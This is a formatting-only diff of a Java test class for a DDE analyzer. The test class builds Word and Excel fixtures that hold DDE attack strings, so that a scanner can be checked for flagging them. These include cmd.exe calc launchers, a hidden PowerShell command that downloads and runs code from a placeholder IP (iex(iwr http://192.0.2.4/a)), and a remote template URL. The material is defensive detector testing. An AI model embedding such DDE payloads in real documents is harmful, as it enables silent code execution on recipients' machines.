@@ -45,9 +45,14 @@ class DdeAnalyzerTest {
 
     @Test
     void aSimpleDdeFieldIsFound() throws IOException {
-        byte[] docx = docx(p -> p.getCTP().addNewFldSimple().setInstr(" DDE c:\\\\windows\\\\system32\\\\cmd.exe \"/k calc.exe\" "));
+        byte[] docx = docx(p ->
+                p.getCTP().addNewFldSimple().setInstr(" DDE c:\\\\windows\\\\system32\\\\cmd.exe \"/k calc.exe\" "));
 
-        assertEquals("DDE", ReportChecks.only(TestEngines.scanFile("s.docx", docx), "dde.field").evidence().get("keyword"));
+        assertEquals(
+                "DDE",
+                ReportChecks.only(TestEngines.scanFile("s.docx", docx), "dde.field")
+                        .evidence()
+                        .get("keyword"));
     }
 
     @Test
@@ -86,7 +91,8 @@ class DdeAnalyzerTest {
 
     @Test
     void binaryWordFieldsAreReadFromTheTextStream() {
-        String text = "Hello \u0013DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe \"/k calc.exe\"\u0014!Error\u0015 and \u0013 PAGE \u00141\u0015";
+        String text =
+                "Hello \u0013DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe \"/k calc.exe\"\u0014!Error\u0015 and \u0013 PAGE \u00141\u0015";
 
         List<String> instructions = DocFieldReader.fromText(text);
 
@@ -137,7 +143,8 @@ class DdeAnalyzerTest {
                         <externalLink xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">
                         <ddeLink ddeService="cmd" ddeTopic="/c calc.exe"><ddeItems><ddeItem name="_xlbgnm.A1" advise="1"/></ddeItems></ddeLink>
                         </externalLink>"""),
-                OfficeFixtures.workbookRels("<Relationship Id=\"rId2\" Type=\"http://schemas.openxmlformats.org/officeDocument/2006/relationships/externalLink\" Target=\"externalLinks/externalLink1.xml\"/>"));
+                OfficeFixtures.workbookRels(
+                        "<Relationship Id=\"rId2\" Type=\"http://schemas.openxmlformats.org/officeDocument/2006/relationships/externalLink\" Target=\"externalLinks/externalLink1.xml\"/>"));
 
         Report report = TestEngines.scanFile("book.xlsx", xlsx);
 
@@ -151,8 +158,10 @@ class DdeAnalyzerTest {
 
     @Test
     void anXlsxWithOrdinaryFormulasIsClean() {
-        byte[] xlsx = OfficeFixtures.xlsx("<row r=\"1\"><c r=\"A1\"><f>SUM(B1:B9)</f></c><c r=\"A2\"><f>[1]Sheet1!$A$1</f></c></row>",
-                Map.of(), OfficeFixtures.workbookRels());
+        byte[] xlsx = OfficeFixtures.xlsx(
+                "<row r=\"1\"><c r=\"A1\"><f>SUM(B1:B9)</f></c><c r=\"A2\"><f>[1]Sheet1!$A$1</f></c></row>",
+                Map.of(),
+                OfficeFixtures.workbookRels());
 
         Report report = TestEngines.scanFile("book.xlsx", xlsx);
 
@@ -179,11 +188,13 @@ class DdeAnalyzerTest {
 
     @Test
     void anXlsDdeLinkInASupbookRecordIsFound() {
-        byte[] xls = OfficeFixtures.ole2(root -> root.createDocument("Workbook", new java.io.ByteArrayInputStream(biff(
-                record(0x0809, new byte[16]),
-                record(0x01AE, supbook("cmd\u0003/c powershell -nop -w hidden -c iex(iwr http://192.0.2.4/a)")),
-                record(0x01AE, new byte[] {1, 0, 1, 4}),
-                record(0x000A, new byte[0])))));
+        byte[] xls = OfficeFixtures.ole2(root -> root.createDocument(
+                "Workbook",
+                new java.io.ByteArrayInputStream(biff(
+                        record(0x0809, new byte[16]),
+                        record(0x01AE, supbook("cmd\u0003/c powershell -nop -w hidden -c iex(iwr http://192.0.2.4/a)")),
+                        record(0x01AE, new byte[] {1, 0, 1, 4}),
+                        record(0x000A, new byte[0])))));
 
         Report report = TestEngines.scanFile("book.xls", xls);
 
@@ -194,12 +205,15 @@ class DdeAnalyzerTest {
 
     @Test
     void anXlsWithAnOrdinaryExternalWorkbookHasNoDde() {
-        byte[] xls = OfficeFixtures.ole2(root -> root.createDocument("Workbook", new java.io.ByteArrayInputStream(biff(
-                record(0x0809, new byte[16]),
-                record(0x01AE, supbook("\u0001\u0001C\u0003budget.xls")),
-                record(0x000A, new byte[0])))));
+        byte[] xls = OfficeFixtures.ole2(root -> root.createDocument(
+                "Workbook",
+                new java.io.ByteArrayInputStream(biff(
+                        record(0x0809, new byte[16]),
+                        record(0x01AE, supbook("\u0001\u0001C\u0003budget.xls")),
+                        record(0x000A, new byte[0])))));
 
-        assertTrue(ReportChecks.withCode(TestEngines.scanFile("book.xls", xls), "dde.link").isEmpty());
+        assertTrue(ReportChecks.withCode(TestEngines.scanFile("book.xls", xls), "dde.link")
+                .isEmpty());
     }
 
     private static byte[] supbook(String path) {
@@ -257,7 +271,9 @@ class DdeAnalyzerTest {
         assertEquals("DDEAUTO", ReportChecks.only(w2003, "dde.field").evidence().get("keyword"));
         assertEquals("application/vnd.ms-word2006ml", flat.root().detectedType());
         assertEquals("DDE", ReportChecks.only(flat, "dde.field").evidence().get("keyword"));
-        assertEquals("http://192.0.2.9/t.dotm", ReportChecks.only(flat, "ooxml.external-template").evidence().get("url"));
+        assertEquals(
+                "http://192.0.2.9/t.dotm",
+                ReportChecks.only(flat, "ooxml.external-template").evidence().get("url"));
     }
 
     interface ParagraphEdit {
